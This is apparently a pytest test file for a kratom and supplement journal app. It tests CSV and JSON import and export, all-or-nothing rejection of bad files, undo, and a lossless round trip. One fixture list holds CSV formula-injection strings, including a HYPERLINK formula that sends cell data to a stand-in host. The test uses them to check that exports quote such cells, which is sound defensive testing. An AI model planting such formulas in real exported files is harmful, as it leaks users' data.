"""Import and export: all or nothing, nothing twice, and a lossless JSON round trip."""

import csv
import json
from datetime import UTC, datetime, timedelta

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kratomlog.checkins.services import record_checkin, record_sleep
from kratomlog.journal import services, transfer
from kratomlog.journal.models import Change, Entry, Person
from kratomlog.plans.services import set_plan
from tests import fixtures
from tests.core.test_formats import KT_JSON, PW_EXPORT


def kratom_grams(person):
    return sorted(e.grams for e in person.entries.filter(substance="kratom", deleted=False))


def test_a_csv_imports_and_the_same_file_again_adds_nothing(kl, person):
    first = kl("import", "csv", fixtures.JOURNAL_CSV).stdout
    assert "Imported 6 entries from journal.csv." in first
    again = kl("import", "csv", fixtures.JOURNAL_CSV).stdout
    assert "Imported 0 entries from journal.csv; 6 were already in the journal." in again
    assert person.entries.count() == 6
    [entry] = person.entries.filter(local_day="2026-10-30")
    assert (entry.grams, entry.note, entry.source) == (3.0, "before the plan", "csv")


def test_one_bad_row_rejects_the_file_and_writes_nothing(kl, person, tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text(fixtures.JOURNAL_CSV.read_text() + "2026-11-22T10:00,kratom,lots,g,,,,,\n")
    result = kl("import", "csv", bad, code=2)
    assert result.stderr.strip() == (
        "error: nothing imported: line 8, column amount: 'lots' is not a number; use digits "
        "with a decimal point or comma, e.g. 3, 2.5 or 0,5"
    )
    assert person.entries.count() == 0 and not Change.objects.filter(person=person).exists()


def test_every_bad_row_is_listed(kl, tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("time,substance,amount,unit\n2026-11-01,kratom,1,oz\nnot a time,kratom,1,g\n")
    err = kl("import", "csv", bad, code=2).stderr
    assert "line 2, column unit: unknown unit 'oz'" in err and "line 3, column time" in err


def test_an_import_is_undone_whole_and_can_then_be_imported_again(kl, person):
    kl("import", "csv", fixtures.JOURNAL_CSV)
    assert "undid: imported 6 entries from journal.csv" in kl("undo").stdout
    assert person.entries.count() == 0
    assert "Imported 6 entries" in kl("import", "csv", fixtures.JOURNAL_CSV).stdout


def test_a_missing_file_or_unknown_format_is_a_clear_error(kl, tmp_path):
    assert "FILE: " in kl("import", "csv", tmp_path / "nope.csv", code=2).stderr
    assert "error: FORMAT: 'xls'" in kl("import", "xls", tmp_path / "a.xls", code=2).stderr


def test_pwjournal_import_through_the_cli(kl, person, tmp_path):
    path = tmp_path / "journal.json"
    path.write_text(json.dumps(PW_EXPORT))
    assert "Imported 3 entries" in kl("import", "pwjournal", path).stdout
    assert kratom_grams(person) == [2.0, 3.0]
    assert "Imported 0 entries" in kl("import", "pwjournal", path).stdout


def test_kratomtracker_import_makes_its_strains_products(kl, person, tmp_path):
    path = tmp_path / "backup.json"
    path.write_text(json.dumps(KT_JSON))
    kl("import", "kratomtracker", path)
    assert kratom_grams(person) == [2.5, 3.0]
    assert [p.name for p in person.products.all()] == ["Green Malay"]


def test_export_csv_reads_back_into_another_journal(kl, person, tmp_path):
    fixtures.load(kl)
    out = tmp_path / "out.csv"
    kl("export", "csv", "--output", out)
    other = Person.objects.create(timezone="Europe/Berlin")
    transfer.import_file(person=other, kind="csv", path=out, now=datetime.now(UTC))
    assert kratom_grams(other) == kratom_grams(person)
    mg = [e.elemental_mg for e in other.entries.filter(substance="magnesium")]
    assert mg == [141.0]


FORMULAS = ["=HYPERLINK(\"https://evil.test/?d=\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1)",
            "'=already quoted", "'plain quote", "fine"]


def test_export_csv_cells_a_spreadsheet_would_run_are_quoted_and_read_back_as_they_were(
    kl, person, tmp_path
):
    for hour, note in enumerate(FORMULAS, start=8):
        kl("dose", "1g", "--at", f"{hour:02d}:00", "--note", note)
    out = tmp_path / "out.csv"
    kl("export", "csv", "--output", out)
    written = {row["note"] for row in csv.DictReader(out.open(newline=""))}
    assert written == {"'" + note for note in FORMULAS[:5]} | {"'plain quote", "fine"}
    other = Person.objects.create(timezone="Europe/Berlin")
    transfer.import_file(person=other, kind="csv", path=out, now=datetime.now(UTC))
    assert sorted(e.note for e in other.entries.all()) == sorted(FORMULAS)


def test_export_json_is_complete(kl, person):
    fixtures.load(kl)
    kl("dose", "1g", "--at", "10:00")
    kl("delete", person.entries.latest("id").id)
    data = json.loads(kl("export", "json").stdout)
    assert data["format"] == "kratomlog-journal" and data["person"]["timezone"] == "Europe/Berlin"
    assert len(data["entries"]) == 7 and sum(e["deleted"] for e in data["entries"]) == 1
    assert [p["name"] for p in data["plans"]] == ["occasional"]
    assert [c["action"] for c in data["changes"]][-3:] == ["plan", "log", "delete"]


def test_a_damaged_json_export_is_refused_whole(kl, person, tmp_path):
    path = tmp_path / "broken.json"
    path.write_text('{"format": "kratomlog-journal", "person": {}}')
    assert (
        "error: nothing imported: person.name: missing"
        in kl("import", "json", path, code=2).stderr
    )
    assert person.entries.count() == 0


ZONES = st.sampled_from(["Europe/Berlin", "America/New_York", "Asia/Kolkata", "UTC"])
ACTIONS = st.lists(
    st.one_of(
        st.tuples(
            st.just("kratom"),
            st.floats(0.1, 40),
            st.integers(1, 60 * 24 * 60),
            st.text(st.characters(exclude_characters="\x00"), max_size=12),
        ),
        st.tuples(
            st.just("magnesium"),
            st.sampled_from(["citrate", "oxide", "elemental"]),
            st.integers(1, 60 * 24 * 60),
            st.integers(50, 800),
        ),
        st.tuples(
            st.just("other"),
            st.sampled_from(["beer", "tramadol", "doxycycline"]),
            st.integers(1, 60 * 24 * 60),
            st.sampled_from(["alcohol", "opioid", "antibiotic"]),
        ),
        st.tuples(st.just("edit"), st.floats(0.1, 40)),
        st.tuples(st.just("delete")),
        st.tuples(st.just("undo")),
        st.tuples(st.just("plan"), st.sampled_from(["occasional", "low-dose-3g", "break-90"])),
        st.tuples(st.just("phq9"), st.lists(st.integers(0, 3), min_size=9, max_size=9)),
        st.tuples(st.just("sleep"), st.integers(2, 60), st.integers(0, 60)),
    ),
    max_size=15,
)

NOW = datetime(2026, 11, 23, 18, 0, tzinfo=UTC)


def make_journal(zone, actions) -> Person:
    person = Person.objects.create(timezone=zone)
    for action in actions:
        kind, *args = action
        at = (
            None
            if kind in ("edit", "delete", "undo", "plan", "phq9", "sleep")
            else ((NOW - timedelta(minutes=args[1])).isoformat())
        )
        last = person.entries.filter(deleted=False).order_by("-id").first()
        try:
            if kind == "kratom":
                services.log_kratom(
                    person=person,
                    amount=f"{args[0]}g",
                    now=NOW,
                    at=at,
                    note=args[2],
                    confirm_high=True,
                )
            elif kind == "magnesium":
                services.log_magnesium(
                    person=person, amount=f"{args[2]}mg", form=args[0], now=NOW, at=at
                )
            elif kind == "other":
                services.log_other(
                    person=person, name=args[0], category=args[2], amount="1 unit", now=NOW, at=at
                )
            elif kind == "edit" and last and last.substance == "kratom":
                services.edit_entry(
                    person=person,
                    entry_id=last.id,
                    amount=f"{args[0]}g",
                    now=NOW,
                    confirm_high=True,
                )
            elif kind == "delete" and last:
                services.delete_entry(person=person, entry_id=last.id, now=NOW)
            elif kind == "undo" and person.changes.exists():
                services.undo(person=person, now=NOW)
            elif kind == "plan":
                set_plan(person=person, preset_or_file=args[0], now=NOW)
            elif kind == "phq9":
                record_checkin(person=person, key="phq9", answers=args[0], now=NOW)
            elif kind == "sleep":
                record_sleep(
                    person=person,
                    now=NOW,
                    night=str((NOW - timedelta(days=args[0])).date()),
                    bed="23:00",
                    tried="23:15",
                    sol=args[1],
                    wakes=1,
                    waso=5,
                    final="06:30",
                    up="07:00",
                    quality=3,
                    replace=True,
                )
        except Exception as error:  # an edit that changes nothing is refused; that is fine
            if "nothing to change" not in str(error) and "nothing to undo" not in str(error):
                raise
    return person


def comparable(export):
    return {key: value for key, value in export.items() if key != "exported_at"}


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(ZONES, st.sampled_from(["g", "mg", "capsule", "teaspoon"]), st.booleans(), ACTIONS)
def test_export_json_then_import_into_an_empty_journal_gives_the_same_journal(
    db, zone, unit, own_resources, actions
):
    original = make_journal(zone, actions)
    original.dose_unit = unit
    original.crisis_resources = "Local line | 0800 111 0 111" if own_resources else ""
    original.save()
    exported = json.loads(json.dumps(transfer.export_json(original, NOW), allow_nan=False))
    assert exported["person"]["dose_unit"] == unit  # every setting is in the export
    # the copy must not collide with the original's uids, as it would in another database
    Person.objects.filter(id=original.id).delete()
    copy = Person.objects.create(timezone="UTC")
    transfer.import_json(person=copy, text=json.dumps(exported), now=NOW, name="journal.json")
    copied = comparable(transfer.export_json(copy, NOW))
    # the copy's own history adds one change: the import, which undo would reverse
    theirs = {change["uid"] for change in exported["changes"]}
    own = [change for change in copied["changes"] if change["uid"] not in theirs]
    assert len(own) == (1 if exported["changes"] else len(own)) <= 1
    assert all(c["action"] == "import" and c["summary"].endswith("journal.json") for c in own)
    history = [change for change in copied["changes"] if change["uid"] in theirs]
    assert {**copied, "changes": history} == comparable(exported)
    assert (copy.timezone, copy.dose_unit, copy.crisis_resources) == (
        zone,
        unit,
        original.crisis_resources,
    )
    copy.delete()


def test_importing_the_same_json_twice_adds_nothing(kl, person, tmp_path):
    fixtures.load(kl)
    path = tmp_path / "journal.json"
    kl("export", "json", "--output", path)
    assert (
        "Imported 0 entries from journal.json; 6 were already in the journal."
        in kl("import", "json", path).stdout
    )
    assert Entry.objects.filter(person=person).count() == 6


def test_a_json_export_with_a_damaged_rule_is_refused_whole(kl, person, tmp_path):
    fixtures.load(kl)
    data = transfer.export_json(person, NOW)
    data["plans"][0]["rules"][0]["max"] = -1
    person.entries.all().delete()
    person.plan_versions.all().delete()
    person.changes.all().delete()
    path = tmp_path / "damaged.json"
    path.write_text(json.dumps(data))
    assert "rule 1.max" in kl("import", "json", path, code=2).stderr
    assert person.entries.count() == 0 and person.plan_versions.count() == 0


def test_a_long_import_reports_its_progress(person, tmp_path):
    path = tmp_path / "long.csv"
    path.write_text(
        "time,substance,amount,unit\n"
        + "".join(f"2025-01-01T00:00,kratom,{1 + n / 1000},g\n" for n in range(4500))
    )
    seen = []
    transfer.import_file(
        person=person,
        kind="csv",
        path=path,
        now=NOW,
        progress=lambda done, total: seen.append((done, total)),
    )
    assert seen == [(2000, 4500), (4000, 4500), (4500, 4500)]
